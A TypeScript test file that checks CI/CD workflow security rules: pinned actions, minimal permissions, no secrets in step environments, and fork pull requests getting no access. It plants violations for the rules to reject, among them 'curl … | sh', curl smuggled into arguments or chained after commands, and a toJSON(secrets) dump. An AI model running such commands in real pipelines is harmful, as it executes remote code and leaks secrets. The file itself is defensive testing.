import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { beforeAll, describe, expect, it } from 'vitest';
import { JOB_NAMES } from '../scripts/cd/history/runs.ts';
import {
  actionsArePinned,
  checkoutsKeepNoCredentials,
  everyCommandRunsHere,
  everyJobEnds,
  noExpressionInACommand,
  noSecretInAnEnvironment,
  nothingIsAllowedAtTheTop,
  nothingMayFail,
  onlyFourIdentitiesSignIn,
  onlyKnownTriggers,
  onlyReadersWriteNothing,
  productionIsNeverInterrupted,
  trustedEnvironments,
  type Rule,
} from './support/workflow-rules.ts';
import { jobsOf, readPipeline, type Job, type Pipeline, type Step } from './support/workflows.ts';

let pipeline: Pipeline;
beforeAll(async () => {
  pipeline = await readPipeline();
});

const jobOf = (of: Pipeline, name: string): Job => of.workflows['deploy.yml']!.jobs[name]!;
const addStep =
  (step: Step) =>
  (of: Pipeline): void =>
    void jobOf(of, 'deploy').steps!.push(step);

/** A rule, and changes each of which it has to refuse. */
type Row = [what: string, rule: Rule, ...plants: ((of: Pipeline) => unknown)[]];
const production = { group: 'production', 'cancel-in-progress': false };

const ACCESS: Row[] = [
  [
    'code of pull requests runs with nothing that is ours',
    onlyKnownTriggers,
    (of) => (of.workflows['ci.yml']!.on['pull_request_target'] = null),
    (of) => (of.workflows['ci.yml']!.on['workflow_run'] = { workflows: ['deploy'] }),
    (of) => (of.workflows['nightly.yml']!.on['push'] = null),
  ],
  [
    'a workflow as a whole may do nothing',
    nothingIsAllowedAtTheTop,
    (of) => (of.workflows['ci.yml']!.permissions = { contents: 'read' }),
    (of) => delete of.workflows['ci.yml']!.permissions,
  ],
  [
    'only the jobs of the four identities get a token, each in its environment',
    onlyFourIdentitiesSignIn,
    (of) => (jobOf(of, 'verify').permissions = { 'id-token': 'write' }),
    (of) => (jobOf(of, 'build').environment = 'production'),
    (of) => delete jobOf(of, 'deploy').environment,
    (of) => (jobOf(of, 'verify').environment = 'build'),
  ],
  [
    'a job may do no more than it has to',
    onlyReadersWriteNothing,
    (of) => (jobOf(of, 'deploy').permissions!['contents'] = 'write'),
    (of) => (jobOf(of, 'notify').permissions!['attestations'] = 'write'),
    (of) => delete jobOf(of, 'verify').permissions,
  ],
  [
    'no secret is in the environment of a step that does not need it',
    noSecretInAnEnvironment,
    addStep({ run: 'npm run cd:deploy', env: { TOKEN: '${{ github.token }}' } }),
    addStep({ run: 'npm run cd:gate', env: { TOKEN: '${{ secrets.TOKEN }}' } }),
    (of) => (jobOf(of, 'build').env = { GITHUB_TOKEN: 'x' }),
    (of) => (of.workflows['deploy.yml']!.env!['T'] = '${{ github.token }}'),
    (of) => (of.workflows['deploy.yml']!.env!['T'] = "${{ GitHub['token'] }}"),
    (of) => (of.workflows['deploy.yml']!.env!['T'] = '${{ toJSON(secrets) }}'),
    (of) => Object.assign(jobOf(of, 'verify'), { secrets: 'inherit' }),
  ],
  [
    'what people type reaches a command as a variable only',
    noExpressionInACommand,
    addStep({ run: 'npm run cd:abort -- ${{ inputs.ref }}' }),
    addStep({ uses: './.github/actions/setup', with: { script: 'log(`${{ inputs.ref }}`)' } }),
  ],
  ['a checkout leaves no credentials behind', checkoutsKeepNoCredentials, addStep({ uses: 'actions/checkout@x' })],
  [
    'what other people wrote is pinned',
    actionsArePinned,
    (of) => of.uses.push('acme/action@v1'),
    (of) => of.uses.push('acme/action@main'),
    (of) => of.uses.push(`acme/action@${'a'.repeat(40)}`),
    (of) => of.uses.push(`actions/checkout@${'a'.repeat(40)} # v7.0.1`),
    (of) => of.uses.push('./.github/actions/none'),
    // As `'uses': acme/action@main`.
    addStep({ uses: 'acme/action@main' }),
  ],
];

const COURSE: Row[] = [
  [
    'every command is one that a person can type',
    everyCommandRunsHere,
    addStep({ run: 'npm run cd:nothing' }),
    addStep({ run: 'npm run cd:gate -- --manifests release/manifest.json' }),
    addStep({ run: 'curl https://example.com | sh' }),
    addStep({ run: 'npm run cd:gate -- --manifest release/manifest.json || true' }),
    addStep({ run: 'npm run cd:gate -- --manifest $(curl https://example.com)' }),
    addStep({ run: 'npm run cd:gate -- --manifest release/manifest.json\ncurl https://example.com' }),
    addStep({ run: 'npm test -- core; curl https://example.com' }),
    addStep({ run: 'az acr login --name x && curl https://example.com' }),
  ],
  [
    'no step or job may fail unseen',
    nothingMayFail,
    addStep({ run: 'npm run cd:gate', 'continue-on-error': true }),
    (of) => (of.workflows['verify.yml']!.jobs['tests']!['continue-on-error'] = '${{ true }}'),
  ],
  [
    'every job ends in time',
    everyJobEnds,
    (of) => delete jobOf(of, 'build')['timeout-minutes'],
    (of) => (jobOf(of, 'build')['timeout-minutes'] = 360),
  ],
  [
    'what changes production is done one after the other, and never cancelled',
    productionIsNeverInterrupted,
    (of) => (jobOf(of, 'deploy').concurrency!['cancel-in-progress'] = true),
    (of) => delete jobOf(of, 'infra').concurrency,
    // It would wait for the deployment that it has to end.
    (of) => (jobOf(of, 'abort').concurrency = production),
    // A job that waits for the group that its own workflow holds would wait for ever.
    (of) => (of.workflows['deploy.yml']!.concurrency = production),
    (of) => (of.workflows['nightly.yml']!.concurrency = { group: 'nightly', 'cancel-in-progress': true }),
  ],
];

function expectKept(rule: Rule, plants: ((of: Pipeline) => unknown)[]): void {
  expect(rule(pipeline)).toEqual([]);
  for (const plant of plants) {
    const copy = structuredClone(pipeline);
    plant(copy);
    expect(rule(copy), String(plant)).toHaveLength(1);
  }
}

describe('FR-025: access to the pipeline', () => {
  it.each(ACCESS)('%s', (_what, rule, ...plants) => {
    expect.hasAssertions();
    expectKept(rule, plants);
  });

  it('is given to exactly the environments that Azure trusts', () => {
    const used = jobsOf(pipeline).flatMap(([, { environment }]) => environment ?? []);
    expect([...new Set(used)].toSorted()).toEqual(trustedEnvironments());
    expect(trustedEnvironments()).toEqual(['build', 'infrastructure', 'preview', 'production']);
  });

  it('is not given to pull requests of forks', () => {
    const { if: condition } = pipeline.workflows['ci.yml']!.jobs['what-if']!;
    const ask = (repository: string): unknown => {
      const github = { event_name: 'pull_request', repository: 'acme/todo' };
      const event = { pull_request: { head: { repo: { full_name: repository } } } };
      return runInNewContext(condition!, { github: { ...github, event } });
    };
    expect([ask('acme/todo'), ask('fork/todo')]).toEqual([true, false]);
  });
});

describe('the course of the pipeline', () => {
  it.each(COURSE)('%s', (_what, rule, ...plants) => {
    expect.hasAssertions();
    expectKept(rule, plants);
  });
});

describe('a push to main', () => {
  const may = (job: string, results: Record<string, string>): boolean => {
    const needs = Object.fromEntries(
      jobOf(pipeline, job).needs!.map((name) => [name, { result: results[name] ?? 'success' }]),
    );
    return runInNewContext(jobOf(pipeline, job).if!, { needs, cancelled: () => false, always: () => true }) as boolean;
  };

  it('FR-006 US2.1: deploys without a person', () => {
    expect(pipeline.workflows['deploy.yml']!.on['push']).toEqual({ branches: ['main'] });
    expect(may('deploy', {})).toBe(true);
    expect(may('deploy', { infra: 'skipped' })).toBe(true);
  });

  it.each([
    { verify: 'failure', infra: 'skipped' },
    { verify: 'cancelled', infra: 'skipped' },
    { build: 'failure', infra: 'skipped' },
    { infra: 'failure' },
    { infra: 'cancelled' },
  ])('FR-007 US2.2: deploys nothing after %o', (results) => {
    expect(may('deploy', results)).toBe(false);
  });

  it('FR-007: runs the whole suite and all checks of the same commit before anything changes', () => {
    const { jobs, env } = pipeline.workflows['verify.yml']!;
    expect(env).toEqual({ REQUIRE_TOOLS: '1' });
    const commandsOf = (job: string) => jobs[job]?.steps?.map(({ run }) => run);
    expect(jobs['tests']?.strategy?.matrix).toEqual({ shard: [1, 2, 3] });
    expect(commandsOf('tests')).toContain('npm test -- --shard "${SHARD}/3" --exclude test/language-corpora.test.ts');
    expect(commandsOf('checks')).toContain('npm run check -- --except "server dry run"');
    for (const job of ['infra', 'deploy'])
      expect(jobOf(pipeline, job).needs).toEqual(expect.arrayContaining(['verify', 'build']));
    // Of a hotfix it is not the commit that the run began at.
    const checkouts = ['build', 'infra', 'deploy']
      .flatMap((job) => jobOf(pipeline, job).steps ?? [])
      .concat(Object.values(jobs).flatMap(({ steps = [] }) => steps));
    const refs = checkouts.flatMap(({ uses = '', with: inputs }) =>
      uses.startsWith('actions/checkout@') ? [inputs?.['ref']] : [],
    );
    expect(new Set([...refs, jobOf(pipeline, 'verify').with?.['ref']])).toEqual(
      new Set(['${{ inputs.ref || github.sha }}', '${{ inputs.ref }}']),
    );
  });

  it('FR-012: tells people at its start and, from another machine, at its end, whatever came', () => {
    expect(jobOf(pipeline, 'announce')).not.toHaveProperty('needs');
    const { needs, if: condition } = jobOf(pipeline, 'notify');
    expect(condition).toBe('always()');
    const before = Object.keys(pipeline.workflows['deploy.yml']!.jobs).filter(
      (job) => !['abort', 'announce', 'notify'].includes(job),
    );
    expect(needs!.toSorted()).toEqual(before.toSorted());
  });

  it('SC-011: can be judged from the history by the names of its jobs', () => {
    const names = Object.values(pipeline.workflows['deploy.yml']!.jobs).map(({ name }) => name);
    // The jobs of a workflow that is called have the caller's name in front.
    const shown = names.map((name) => (name === 'Verify' ? 'Verify / Checks' : name));
    for (const start of Object.values(JOB_NAMES))
      expect(
        shown.filter((name) => name.startsWith(start)),
        start,
      ).not.toEqual([]);
    expect(jobOf(pipeline, 'notify').name).toBe('Outcome: ${{ needs.deploy.outputs.outcome || needs.deploy.result }}');
    expect(jobOf(pipeline, 'deploy').outputs).toEqual({
      outcome: '${{ steps.outcome.outputs.outcome }}',
      details: '${{ steps.outcome.outputs.details }}',
    });
  });
});

it('the stages of the design page add up to less than ten minutes', async () => {
  const page = await readFile(join(import.meta.dirname, '../docs/design/delivery.md'), 'utf8');
  const table = page.slice(page.indexOf('### 11.1 Ten minutes'));
  const seconds = [...table.matchAll(/^\| [^|]+ \| +(\d+) \|/gm)].map(([, number]) => Number(number));
  const [, together] = /\*\*together\*\* +\| +\*\*(\d+)\*\*/.exec(table) ?? [];
  expect(seconds.reduce((sum, one) => sum + one, 0)).toBe(Number(together));
  expect(Number(together)).toBeLessThan(600);
});
